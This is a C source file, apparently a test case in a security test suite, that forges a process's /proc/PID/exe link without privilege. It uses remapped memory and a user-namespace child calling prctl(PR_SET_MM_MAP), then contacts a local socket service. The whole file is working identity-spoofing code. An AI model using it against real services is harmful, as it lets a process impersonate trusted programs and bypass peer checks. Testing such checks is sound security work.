// Makes /proc/PID/exe of this process name another program, with no privilege at all (T4).
//   forge SOCKET NAME TARGET hidden   the target is not among our executable mappings
//   forge SOCKET NAME TARGET mapped   one page of it is, as it would be if we were the target
// The kernel lets the exe link be changed once the old file is mapped no more. So our own code goes on in a copy, and a
// child that shares our memory, in a user namespace of its own, changes the link: this process never leaves ours.
#define _GNU_SOURCE
#include "visit.h"
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>

static struct prctl_mm_map layout;
static char stack[65536] __attribute__((aligned(16)));
static int refused;

static int change_link(void *unused) {
  (void)unused;
  refused = prctl(PR_SET_MM, PR_SET_MM_MAP, &layout, sizeof layout, 0) ? errno : 0;
  return 0;
}

// proc_pid_stat(5): where the kernel believes our code, data, stack, arguments and environment to be.
static void read_layout(int target) {
  static char text[4096];
  unsigned long field[64] = {0};
  int stat = open("/proc/self/stat", O_RDONLY);
  long size = read(stat, text, sizeof text - 1);
  if (size <= 0) not_here("/proc/self/stat");
  close(stat);
  char *at = strrchr(text, ')');
  for (int number = 3; number < 64 && (at = strchr(at, ' ')); number++) field[number] = strtoul(++at, NULL, 10);
  layout = (struct prctl_mm_map){
    .start_code = field[26], .end_code = field[27], .start_stack = field[28],
    .start_data = field[45], .end_data = field[46], .start_brk = field[47], .brk = (unsigned long)sbrk(0),
    .arg_start = field[48], .arg_end = field[49], .env_start = field[50], .env_end = field[51],
    .exe_fd = target,
  };
}

struct part { unsigned long start, end; int protection; };

// Puts anonymous memory with the same bytes in place of every mapping of our own file.
static void leave_own_file(void) {
  static struct part parts[64];
  static char self[4096], line[8192];
  int count = 0;
  if (readlink("/proc/self/exe", self, sizeof self - 1) < 0) not_here("readlink");
  FILE *maps = fopen("/proc/self/maps", "r");
  if (!maps) not_here("/proc/self/maps");
  while (count < 64 && fgets(line, sizeof line, maps)) {
    char bits[5];
    struct part *part = &parts[count];
    if (sscanf(line, "%lx-%lx %4s", &part->start, &part->end, bits) != 3) continue;
    line[strcspn(line, "\n")] = 0;
    char *name = strchr(line, '/');
    if (!name || strcmp(name, self)) continue;
    part->protection = (bits[0] == 'r' ? PROT_READ : 0) | (bits[1] == 'w' ? PROT_WRITE : 0) | (bits[2] == 'x' ? PROT_EXEC : 0);
    count++;
  }
  fclose(maps);
  for (int i = 0; i < count; i++) {
    unsigned long length = parts[i].end - parts[i].start;
    void *copy = mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (copy == MAP_FAILED) not_here("mmap");
    memcpy(copy, (void *)parts[i].start, length);
    if (mprotect(copy, length, parts[i].protection)) not_here("mprotect");
    if (mremap(copy, length, length, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)parts[i].start) == MAP_FAILED) not_here("mremap");
  }
}

int main(int count, char **arguments) {
  if (count < 5) return 2;
  int target = open(arguments[3], O_RDONLY | O_CLOEXEC);
  if (target < 0) not_here("open");
  leave_own_file();
  read_layout(target);
  int child = clone(change_link, stack + sizeof stack, CLONE_VM | CLONE_NEWUSER | SIGCHLD, NULL);
  if (child < 0) not_here("no user namespace for an unprivileged user");
  waitpid(child, NULL, 0);
  if (refused) { errno = refused; not_here("prctl(PR_SET_MM_MAP)"); }
  if (!strcmp(arguments[4], "mapped") && mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, target, 0) == MAP_FAILED) not_here("mmap");
  wait_for_word();
  int connected = connect_to(arguments[1]);
  ask(connected, arguments[2]);
  return answer(connected);
}
